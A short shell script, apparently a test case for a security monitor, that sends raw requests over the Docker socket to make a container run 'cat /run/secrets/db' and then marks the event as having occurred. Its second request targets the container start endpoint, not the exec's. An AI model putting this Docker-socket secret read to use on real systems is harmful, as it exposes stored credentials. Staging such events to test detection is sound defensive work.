#!/bin/sh
. /opt/case/case.sh

ask() {
    printf 'POST %s HTTP/1.0\r\nHost: d\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n%s' "$1" "${#2}" "$2" |
        socat -t 3 - UNIX-CONNECT:/var/run/docker.sock
}
ask /v1.43/containers/0123456789ab/exec '{"Cmd":["cat","/run/secrets/db"],"AttachStdout":true}' | grep -q Id
ask /v1.43/containers/0123456789ab/start '{"Detach":false}' | grep -q Id
took_place
